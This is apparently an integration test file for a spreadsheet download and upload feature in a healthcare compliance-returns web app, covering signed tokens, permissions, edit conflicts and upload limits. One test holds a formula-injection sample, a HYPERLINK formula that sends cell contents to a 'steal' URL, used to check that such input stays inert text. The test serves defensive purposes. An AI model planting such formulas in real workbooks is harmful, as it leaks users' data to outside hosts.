import ExcelJS from 'exceljs';
import supertest from 'supertest';
import { pathTo, paths } from '../../src/paths.js';
import { ANSWERS_SHEET, NOT_APPLICABLE_LABEL, TOKEN_SHEET } from '../../src/returns/workbook-file.js';
import { verifyWorkbookToken } from '../../src/returns/workbook-token.js';
import {
  buildTestApp,
  csrfTokenFrom,
  signedInAgent,
  TEST_SESSION_SECRET,
  testConfig,
} from '../support/app.js';
import { pdfFile } from '../support/evidence-files.js';
import { hasSharedStrings } from '../support/register-files.js';
import { createTestDatabase, type TestDatabase } from '../support/database.js';
import { createTwoProviderWorld, importTestStandards } from '../support/fixtures.js';
import { freshReturns, requirementsInOrder, type Agent } from './returns-helpers.js';

// Returns by spreadsheet (issue 15): the download, through the real route against a real PostgreSQL.
// Provider A's lead and contributor download their return; a contract manager or administrator may
// download it on the provider's behalf (audited as such); viewers are refused, another provider's lead
// learns nothing (404).

let db: TestDatabase;
let world: Awaited<ReturnType<typeof createTwoProviderWorld>>;
let app: ReturnType<typeof buildTestApp>;
let naRequirementId: string;

beforeAll(async () => {
  db = await createTestDatabase();
  await importTestStandards(db.prisma);
  world = await createTwoProviderWorld(db.prisma);
  const requirements = await requirementsInOrder(db.prisma, world.ais.id);
  const second = requirements[1];
  if (!second) throw new Error('AIS 2025 has fewer than two requirements');
  naRequirementId = second.id;
  await db.prisma.requirement.update({
    where: { id: naRequirementId },
    data: { notApplicableAllowed: true },
  });
  app = buildTestApp(db);
});
afterAll(async () => {
  await db.drop();
});

function binary(response: supertest.Response, callback: (error: Error | null, body: Buffer) => void) {
  const chunks: Buffer[] = [];
  response.on('data', (chunk: Buffer) => chunks.push(chunk));
  response.on('end', () => {
    callback(null, Buffer.concat(chunks));
  });
}

function download(agent: Agent | supertest.Agent, returnId: string) {
  return agent
    .get(pathTo(paths.returns.workbook, { returnId }))
    .buffer(true)
    .parse(binary as never);
}

async function workbookOf(body: Buffer) {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(body as never);
  return workbook;
}

test('a lead downloads the return: one row per requirement, ratings from a drop-down, a signed token', async () => {
  const lead = await signedInAgent(app, world.leadA.id);
  const requirements = await requirementsInOrder(db.prisma, world.ais.id);
  const first = requirements[0];
  const level = first?.ratingScale.levels[0];
  if (!first || !level) throw new Error('no requirement');
  const answer = { ratingLevelId: level.id, narrative: 'We audit every quarter', version: 3 };
  const existing = await db.prisma.response.findFirst({
    where: { returnId: world.returnA.id, requirementId: first.id },
  });
  if (existing)
    await db.prisma.response.update({
      where: { id: existing.id },
      data: { ...answer, notApplicable: false },
    });
  else
    await db.prisma.response.create({
      data: { returnId: world.returnA.id, requirementId: first.id, ...answer, updatedById: world.leadA.id },
    });
  // An action linked to the first requirement is listed, read only (issue 14).
  await db.prisma.action.deleteMany({ where: { description: 'Replace the old signs' } });
  await db.prisma.action.create({
    data: {
      providerId: world.providerA.id,
      description: 'Replace the old signs',
      owner: 'Sam Estates',
      dueDate: new Date(Date.UTC(2027, 2, 31)),
      status: 'in_progress',
      links: { create: { requirementId: first.id, returnId: world.returnA.id } },
    },
  });
  const saved = new Map(
    (await db.prisma.response.findMany({ where: { returnId: world.returnA.id } })).map((r) => [
      r.requirementId,
      r.version,
    ]),
  );

  const page = await lead.get(pathTo(paths.returns.show, { returnId: world.returnA.id })).expect(200);
  expect(page.text).toContain(pathTo(paths.returns.workbook, { returnId: world.returnA.id }));

  const response = await download(lead, world.returnA.id).expect(200);
  expect(response.headers['content-type']).toContain('spreadsheetml');
  expect(response.headers['content-disposition']).toContain('.xlsx');
  const workbook = await workbookOf(response.body as Buffer);
  expect(workbook.worksheets[0]?.name).toBe('How to fill it in');
  expect(workbook.worksheets[0]?.getCell('A1').text).toContain('Alpha Hospitals NHS Trust');

  const sheet = workbook.getWorksheet(ANSWERS_SHEET);
  if (!sheet) throw new Error('no Answers sheet');
  expect(sheet.getRow(1).values).toEqual([
    undefined,
    'Code',
    'Requirement',
    'Guidance',
    'Rating',
    'Reason it is not applicable',
    'Narrative',
    'Actions (change them online)',
  ]);
  expect(sheet.rowCount).toBe(requirements.length + 1);
  expect(sheet.getCell('A2').text).toBe(first.code);
  expect(sheet.getCell('D2').text).toBe(level.label);
  expect(sheet.getCell('F2').text).toBe('We audit every quarter');
  expect(sheet.getCell('G2').text).toBe(
    'Replace the old signs (Sam Estates, due 31 March 2027, In progress)',
  );

  // The rating is a drop-down of the scale's labels (on a hidden sheet); "Not applicable" only where allowed.
  const validation = sheet.getCell('D2').dataValidation;
  expect(validation.type).toBe('list');
  const lists = workbook.getWorksheet('Rating choices');
  expect(lists?.state).toBe('hidden');
  const choices = (formula: string | undefined) => {
    const match = /\$([A-Z]+)\$1:\$[A-Z]+\$(\d+)$/.exec(formula ?? '');
    if (!match?.[1] || !lists) throw new Error(`not a range: ${String(formula)}`);
    const column = match[1];
    return Array.from(
      { length: Number(match[2]) },
      (_x, index) => lists.getCell(`${column}${String(index + 1)}`).text,
    );
  };
  expect(choices(String(validation.formulae[0]))).toEqual(first.ratingScale.levels.map((l) => l.label));
  expect(choices(String(sheet.getCell('D3').dataValidation.formulae[0]))).toEqual([
    ...(requirements[1]?.ratingScale.levels.map((l) => l.label) ?? []),
    NOT_APPLICABLE_LABEL,
  ]);

  const tokenSheet = workbook.getWorksheet(TOKEN_SHEET);
  expect(tokenSheet?.state).toBe('veryHidden');
  const token = verifyWorkbookToken(TEST_SESSION_SECRET, tokenSheet?.getCell('A2').text ?? '');
  expect(token).toEqual({
    returnId: world.returnA.id,
    providerId: world.providerA.id,
    versions: Object.fromEntries(requirements.map((r) => [r.id, saved.get(r.id) ?? 0])),
  });
  // Any change to the token makes it fail to verify.
  const text = tokenSheet?.getCell('A2').text ?? '';
  expect(verifyWorkbookToken(TEST_SESSION_SECRET, `${text.slice(0, 10)}x${text.slice(11)}`)).toBeUndefined();
  expect(verifyWorkbookToken('another secret', text)).toBeUndefined();

  const audit = await db.prisma.auditEvent.findFirst({
    where: { action: 'return.workbook_downloaded', actorId: world.leadA.id },
  });
  expect(audit?.returnId).toBe(world.returnA.id);
  expect(audit?.after).toEqual({});
});

test('a contract manager or administrator downloads on the provider’s behalf, and the history says so', async () => {
  for (const user of [world.manager, world.admin]) {
    const agent = await signedInAgent(app, user.id);
    await download(agent, world.returnA.id).expect(200);
    const audit = await db.prisma.auditEvent.findFirst({
      where: { action: 'return.workbook_downloaded', actorId: user.id },
    });
    expect(audit?.after).toEqual({ onBehalfOf: 'Alpha Hospitals NHS Trust' });
  }
  const lead = await signedInAgent(app, world.leadA.id);
  const history = await lead.get(pathTo(paths.returns.history, { returnId: world.returnA.id })).expect(200);
  expect(history.text).toContain('Return downloaded as a spreadsheet');
  expect(history.text).toContain('On behalf of');
});

test('viewers, other providers’ leads and visitors who are not signed in get no workbook', async () => {
  const before = await db.prisma.auditEvent.count({ where: { action: 'return.workbook_downloaded' } });
  const viewer = await signedInAgent(app, world.viewer.id);
  await download(viewer, world.returnA.id).expect(403);
  const viewerPage = await viewer.get(pathTo(paths.returns.show, { returnId: world.returnA.id })).expect(200);
  expect(viewerPage.text).not.toContain(pathTo(paths.returns.workbook, { returnId: world.returnA.id }));
  const leadB = await signedInAgent(app, world.leadB.id);
  await download(leadB, world.returnA.id).expect(404);
  await download(leadB, '00000000-0000-4000-8000-000000000000').expect(404);
  const anonymous = await download(supertest.agent(app), world.returnA.id).expect(302);
  expect(anonymous.headers.location).toContain(paths.signIn);
  expect(await db.prisma.auditEvent.count({ where: { action: 'return.workbook_downloaded' } })).toBe(before);
});

// ---------------------------------------------------------------------------------------------
// The upload

/** A workbook downloaded by `agent`, changed by `edit`, saved as a spreadsheet program saves it. */
async function filledIn(
  agent: Agent,
  returnId: string,
  edit: (sheet: ExcelJS.Worksheet, workbook: ExcelJS.Workbook) => void,
) {
  const response = await download(agent, returnId).expect(200);
  const workbook = await workbookOf(response.body as Buffer);
  const sheet = workbook.getWorksheet(ANSWERS_SHEET);
  if (!sheet) throw new Error('no Answers sheet');
  edit(sheet, workbook);
  // exceljs's whole-workbook writer keeps text in shared strings, as Excel and LibreOffice do.
  return Buffer.from(await workbook.xlsx.writeBuffer());
}

function uploadTo(agent: Agent, returnId: string, content: Buffer, name = 'my return.xlsx') {
  return agent
    .get(pathTo(paths.returns.workbookUpload, { returnId }))
    .expect(200)
    .then((page) =>
      agent
        .post(pathTo(paths.returns.workbookUpload, { returnId }))
        .field('_csrf', csrfTokenFrom(page.text))
        .attach('file', content, name),
    );
}

async function confirmPreview(agent: Agent, returnId: string, fields: Record<string, string> = {}) {
  const preview = await agent.get(pathTo(paths.returns.workbookPreview, { returnId })).expect(200);
  const response = await agent
    .post(pathTo(paths.returns.workbookPreview, { returnId }))
    .type('form')
    .send({ _csrf: csrfTokenFrom(preview.text), ...fields });
  return { preview: preview.text, response };
}

async function answersOf(returnId: string) {
  const rows = await db.prisma.response.findMany({
    where: { returnId },
    include: { requirement: { select: { code: true } }, ratingLevel: { select: { code: true } } },
  });
  return new Map(rows.map((row) => [row.requirement.code, row]));
}

/** What an upload could write to a return: its answers (each save bumps a version) and audit events. */
async function writes(returnId: string) {
  const versions = await db.prisma.response.aggregate({ where: { returnId }, _sum: { version: true } });
  return {
    versions: versions._sum.version,
    audit: await db.prisma.auditEvent.count({
      where: { returnId, action: { not: 'return.workbook_downloaded' } },
    }),
  };
}

test('a lead fills in the workbook, uploads it, checks the preview and saves every answer in one go', async () => {
  const { returnA } = await freshReturns(db.prisma, world);
  const lead = await signedInAgent(app, world.leadA.id);
  const requirements = await requirementsInOrder(db.prisma, world.ais.id);
  const [first, second] = requirements;
  const level = first?.ratingScale.levels[1];
  if (!first || !second || !level) throw new Error('AIS 2025 has too few requirements');
  const content = await filledIn(lead, returnA.id, (sheet) => {
    sheet.getCell('D2').value = level.label;
    sheet.getCell('F2').value = 'We check every door weekly';
    // The Actions column is read only: what is typed there is not read.
    sheet.getCell('G2').value = 'Typed into the actions column';
    sheet.getCell('D3').value = NOT_APPLICABLE_LABEL;
    sheet.getCell('E3').value = 'We have no car park';
  });
  expect(hasSharedStrings(content)).toBe(true);

  const upload = await uploadTo(lead, returnA.id, content);
  expect(upload.status).toBe(302);
  expect(upload.headers.location).toBe(pathTo(paths.returns.workbookPreview, { returnId: returnA.id }));
  expect([...(await answersOf(returnA.id)).values()].every((answer) => answer.version === 1)).toBe(true);

  const { preview, response } = await confirmPreview(lead, returnA.id);
  expect(preview).toContain(`${first.code} ${first.title}: will change`);
  expect(preview).toContain('We check every door weekly');
  expect(preview).not.toContain('Typed into the actions column');
  expect(preview).toContain(`${second.code} ${second.title}: will change`);
  expect(response.status).toBe(302);
  expect(response.headers.location).toBe(pathTo(paths.returns.show, { returnId: returnA.id }));

  const saved = await answersOf(returnA.id);
  expect(saved.get(first.code)).toMatchObject({
    narrative: 'We check every door weekly',
    notApplicable: false,
    ratingLevel: { code: level.code },
    updatedById: world.leadA.id,
  });
  expect(saved.get(second.code)).toMatchObject({
    notApplicable: true,
    notApplicableReason: 'We have no car park',
  });
  expect(
    await db.prisma.auditEvent.count({ where: { returnId: returnA.id, action: 'response.saved' } }),
  ).toBe(2);
  const uploaded = await db.prisma.auditEvent.findFirst({
    where: { returnId: returnA.id, action: 'return.workbook_uploaded' },
  });
  expect(uploaded?.after).toEqual({ answersSaved: 2, appAnswersKept: 0 });
  expect((await db.prisma.return.findUnique({ where: { id: returnA.id } }))?.status).toBe('in_progress');

  // Uploading the same workbook again changes nothing.
  expect((await uploadTo(lead, returnA.id, content)).status).toBe(302);
  const again = await confirmPreview(lead, returnA.id);
  expect(again.preview).toContain('The workbook changes nothing in this return.');
});

test('an answer changed online since the download is not overwritten unless the user chooses the workbook’s', async () => {
  const { returnA } = await freshReturns(db.prisma, world);
  const lead = await signedInAgent(app, world.leadA.id);
  const [first] = await requirementsInOrder(db.prisma, world.ais.id);
  if (!first) throw new Error('no requirement');
  const content = await filledIn(lead, returnA.id, (sheet) => {
    sheet.getCell('F2').value = 'Narrative from the workbook';
  });
  // Meanwhile a contributor saves the same requirement online.
  await db.prisma.response.updateMany({
    where: { returnId: returnA.id, requirementId: first.id },
    data: { narrative: 'Narrative typed online', version: 2, updatedById: world.leadA.id },
  });

  expect((await uploadTo(lead, returnA.id, content)).status).toBe(302);
  const withoutChoice = await confirmPreview(lead, returnA.id);
  expect(withoutChoice.preview).toContain('after you downloaded the workbook');
  expect(withoutChoice.preview).toContain('Narrative typed online');
  expect(withoutChoice.preview).toContain('Narrative from the workbook');
  expect(withoutChoice.response.status).toBe(400);
  expect(withoutChoice.response.text).toContain(`Select which answer to ${first.code} to keep`);

  const keep = await confirmPreview(lead, returnA.id, { [`choice-${first.id}`]: 'app' });
  expect(keep.response.status).toBe(302);
  expect((await answersOf(returnA.id)).get(first.code)?.narrative).toBe('Narrative typed online');

  expect((await uploadTo(lead, returnA.id, content)).status).toBe(302);
  const take = await confirmPreview(lead, returnA.id, { [`choice-${first.id}`]: 'workbook' });
  expect(take.response.status).toBe(302);
  expect((await answersOf(returnA.id)).get(first.code)).toMatchObject({
    narrative: 'Narrative from the workbook',
    version: 3,
  });
});

test('a change online between the preview and the confirmation saves nothing', async () => {
  const { returnA } = await freshReturns(db.prisma, world);
  const lead = await signedInAgent(app, world.leadA.id);
  const [first, second] = await requirementsInOrder(db.prisma, world.ais.id);
  if (!first || !second) throw new Error('no requirement');
  const content = await filledIn(lead, returnA.id, (sheet) => {
    sheet.getCell('F2').value = 'First from the workbook';
    sheet.getCell('F3').value = 'Second from the workbook';
  });
  expect((await uploadTo(lead, returnA.id, content)).status).toBe(302);
  await db.prisma.response.updateMany({
    where: { returnId: returnA.id, requirementId: second.id },
    data: { narrative: 'Typed online', version: { increment: 1 }, updatedById: world.leadA.id },
  });
  const { response } = await confirmPreview(lead, returnA.id);
  expect(response.headers.location).toContain('done=changed-since-preview');
  const saved = await answersOf(returnA.id);
  expect(saved.get(first.code)?.narrative).toBe('');
  expect(saved.get(second.code)?.narrative).toBe('Typed online');
});

test('workbooks for another return or provider, a changed token, an unknown rating, a submitted return and files that are not workbooks are refused, writing nothing', async () => {
  const { returnA, returnB } = await freshReturns(db.prisma, world);
  const other = await freshReturns(db.prisma, world);
  const lead = await signedInAgent(app, world.leadA.id);
  const leadB = await signedInAgent(app, world.leadB.id);
  const before = await writes(returnA.id);
  const refusals: [Buffer, string, string][] = [
    [
      await filledIn(leadB, returnB.id, (sheet) => {
        sheet.getCell('F2').value = 'x';
      }),
      'my return.xlsx',
      'This workbook is for another provider’s return',
    ],
    [
      await filledIn(lead, other.returnA.id, (sheet) => {
        sheet.getCell('F2').value = 'x';
      }),
      'my return.xlsx',
      'This workbook is for another return',
    ],
    [
      await filledIn(lead, returnA.id, (_sheet, workbook) => {
        const cell = workbook.getWorksheet(TOKEN_SHEET)?.getCell('A2');
        if (!cell) throw new Error('no token');
        const token = cell.text;
        cell.value = `${token.slice(0, 5)}${token[5] === 'A' ? 'B' : 'A'}${token.slice(6)}`;
      }),
      'my return.xlsx',
      'hidden sheet has been changed',
    ],
    [
      await filledIn(lead, returnA.id, (sheet) => {
        sheet.getCell('D2').value = 'Brilliant';
      }),
      'my return.xlsx',
      'Row 2: &#34;Brilliant&#34; is not a rating',
    ],
    [pdfFile(), 'my return.xlsx', 'The file must be an Excel workbook (.xlsx)'],
    [Buffer.from('Code,Rating\n1,Yes\n'), 'my return.csv', 'The file must be an Excel workbook (.xlsx)'],
  ];
  for (const [content, name, reason] of refusals) {
    const response = await uploadTo(lead, returnA.id, content, name);
    expect(response.status).toBe(400);
    expect(response.text).toContain(reason);
  }
  const valid = await filledIn(lead, returnA.id, (sheet) => {
    sheet.getCell('F2').value = 'Too late';
  });
  await db.prisma.return.update({
    where: { id: returnA.id },
    data: { status: 'submitted', submittedAt: new Date() },
  });
  const submitted = await uploadTo(lead, returnA.id, valid);
  expect(submitted.status).toBe(400);
  expect(submitted.text).toContain('This return has been submitted, so a workbook cannot change it');
  expect(await writes(returnA.id)).toEqual(before);
  // Nothing waits to be confirmed either.
  await lead.get(pathTo(paths.returns.workbookPreview, { returnId: returnA.id })).expect(302);
});

test('a contract manager uploads what the provider filled in offline, on its behalf, and the history says so', async () => {
  const { returnA } = await freshReturns(db.prisma, world);
  const manager = await signedInAgent(app, world.manager.id);
  const [first] = await requirementsInOrder(db.prisma, world.ais.id);
  if (!first) throw new Error('no requirement');
  const returnPage = await manager.get(pathTo(paths.returns.show, { returnId: returnA.id })).expect(200);
  expect(returnPage.text).toContain(pathTo(paths.returns.workbookUpload, { returnId: returnA.id }));
  // Downloaded by the manager, sent to the provider, filled in there and sent back.
  const content = await filledIn(manager, returnA.id, (sheet) => {
    sheet.getCell('F2').value = 'Filled in by the provider, uploaded by the ICB';
  });
  const page = await manager.get(pathTo(paths.returns.workbookUpload, { returnId: returnA.id })).expect(200);
  expect(page.text).toContain('You are uploading this workbook on behalf of Alpha Hospitals NHS Trust');
  expect((await uploadTo(manager, returnA.id, content)).status).toBe(302);
  const { response } = await confirmPreview(manager, returnA.id);
  expect(response.status).toBe(302);

  expect((await answersOf(returnA.id)).get(first.code)).toMatchObject({
    narrative: 'Filled in by the provider, uploaded by the ICB',
    updatedById: world.manager.id,
  });
  const uploaded = await db.prisma.auditEvent.findFirst({
    where: { returnId: returnA.id, action: 'return.workbook_uploaded' },
  });
  expect(uploaded).toMatchObject({
    actorId: world.manager.id,
    after: { answersSaved: 1, appAnswersKept: 0, onBehalfOf: 'Alpha Hospitals NHS Trust' },
  });
  // The provider's lead sees who did it, and still submits the return themselves.
  const lead = await signedInAgent(app, world.leadA.id);
  const history = await lead.get(pathTo(paths.returns.history, { returnId: returnA.id })).expect(200);
  expect(history.text).toContain('Answers uploaded from a spreadsheet');
  expect(history.text).toContain('On behalf of');
  expect((await db.prisma.return.findUniqueOrThrow({ where: { id: returnA.id } })).status).toBe(
    'in_progress',
  );
});

test('viewers and other providers’ people cannot upload: refused before the file is read', async () => {
  const { returnA } = await freshReturns(db.prisma, world);
  const lead = await signedInAgent(app, world.leadA.id);
  const content = await filledIn(lead, returnA.id, (sheet) => {
    sheet.getCell('F2').value = 'Not yours';
  });
  const before = await writes(returnA.id);
  for (const [user, status] of [
    [world.viewer, 403],
    [world.leadB, 404],
  ] as const) {
    const agent = await signedInAgent(app, user.id);
    await agent.get(pathTo(paths.returns.workbookUpload, { returnId: returnA.id })).expect(status);
    const home = await agent.get('/').expect(200);
    await agent
      .post(pathTo(paths.returns.workbookUpload, { returnId: returnA.id }))
      .field('_csrf', csrfTokenFrom(home.text))
      .attach('file', content, 'my return.xlsx')
      .expect(status);
  }
  expect(await writes(returnA.id)).toEqual(before);
});

test('a workbook as a spreadsheet program saves it is read: shared strings, rich text, a date as a serial number; formulas stay text', async () => {
  const { returnA } = await freshReturns(db.prisma, world);
  const lead = await signedInAgent(app, world.leadA.id);
  const requirements = await requirementsInOrder(db.prisma, world.ais.id);
  const [first, , third, fourth] = requirements;
  const level = first?.ratingScale.levels[1];
  if (!first || !third || !fourth || !level) throw new Error('AIS 2025 has too few requirements');
  const formulaText = '=HYPERLINK("https://example.com/steal?x="&A1,"Click me")';
  const content = await filledIn(lead, returnA.id, (sheet) => {
    // Part of the rating made bold: saved as rich text, read as its plain text.
    sheet.getCell('D2').value = {
      richText: [{ text: level.label.slice(0, 3) }, { font: { bold: true }, text: level.label.slice(3) }],
    };
    // Text that looks like a formula, typed with a leading apostrophe: saved as text.
    sheet.getCell('F2').value = formulaText;
    // A real formula: its text is kept, never its result, and never worked out.
    sheet.getCell('F4').value = { formula: 'CONCAT("We ","check")', result: 'We check' };
    // A narrative a spreadsheet program turned into a date: a serial number with a date format.
    sheet.getCell('F5').value = new Date(Date.UTC(2026, 3, 1));
    sheet.getCell('F5').numFmt = 'dd/mm/yyyy';
  });
  expect(hasSharedStrings(content)).toBe(true);
  // An XLSX has no date type exceljs writes: a date is its serial number with a date format.
  const saved = (await workbookOf(content)).getWorksheet(ANSWERS_SHEET)?.getCell('F5');
  expect(saved?.type).toBe(ExcelJS.ValueType.Date);
  expect(saved?.numFmt).toBe('dd/mm/yyyy');

  expect((await uploadTo(lead, returnA.id, content)).status).toBe(302);
  const { response } = await confirmPreview(lead, returnA.id);
  expect(response.status).toBe(302);
  const answers = await answersOf(returnA.id);
  expect(answers.get(first.code)).toMatchObject({
    ratingLevel: { code: level.code },
    narrative: formulaText,
  });
  expect(answers.get(third.code)?.narrative).toBe('=CONCAT("We ","check")');
  expect(answers.get(fourth.code)?.narrative).toBe('2026-04-01');

  // Downloaded again, the formula-looking narratives are text cells, never formulas.
  const again = await workbookOf((await download(lead, returnA.id).expect(200)).body as Buffer);
  const sheet = again.getWorksheet(ANSWERS_SHEET);
  for (const address of ['F2', 'F4']) {
    expect(sheet?.getCell(address).type).toBe(ExcelJS.ValueType.String);
    expect(sheet?.getCell(address).formula).toBeUndefined();
  }
  expect(sheet?.getCell('F2').text).toBe(formulaText);
});

test('a workbook with no token, one over the size limit and one with more rows than allowed are refused, writing nothing', async () => {
  const { returnA } = await freshReturns(db.prisma, world);
  const lead = await signedInAgent(app, world.leadA.id);
  const requirements = await requirementsInOrder(db.prisma, world.ais.id);
  const before = await writes(returnA.id);

  const noToken = await filledIn(lead, returnA.id, (sheet, workbook) => {
    sheet.getCell('F2').value = 'No token';
    const tokenSheet = workbook.getWorksheet(TOKEN_SHEET);
    if (!tokenSheet) throw new Error('no token sheet');
    workbook.removeWorksheet(tokenSheet.id);
  });
  const refused = await uploadTo(lead, returnA.id, noToken);
  expect(refused.status).toBe(400);
  expect(refused.text).toContain('This workbook has no hidden sheet saying which return it is for');

  const valid = await filledIn(lead, returnA.id, (sheet) => {
    sheet.getCell('F2').value = 'Within the limits';
  });
  const small = buildTestApp(db, { config: testConfig({ IMPORT_MAX_BYTES: '2048' }) });
  const tooLarge = await uploadTo(await signedInAgent(small, world.leadA.id), returnA.id, valid);
  expect(tooLarge.status).toBe(413);
  expect(tooLarge.text).toContain('The file must be smaller than 2 KB');

  const few = buildTestApp(db, { config: testConfig({ IMPORT_MAX_ROWS: String(requirements.length) }) });
  const fewAgent = await signedInAgent(few, world.leadA.id);
  // As downloaded (one row per requirement) it is within the limit; one row more is not.
  const extraRow = await filledIn(fewAgent, returnA.id, (sheet) => {
    sheet.addRow(['X9', '', '', '', '', 'An extra row']);
  });
  const tooMany = await uploadTo(fewAgent, returnA.id, extraRow);
  expect(tooMany.status).toBe(400);
  expect(tooMany.text).toContain(
    `The Answers sheet has more than ${String(requirements.length)} rows: a return has one row for each requirement`,
  );
  expect((await uploadTo(fewAgent, returnA.id, valid)).status).toBe(302);
  expect(await writes(returnA.id)).toEqual(before);
});
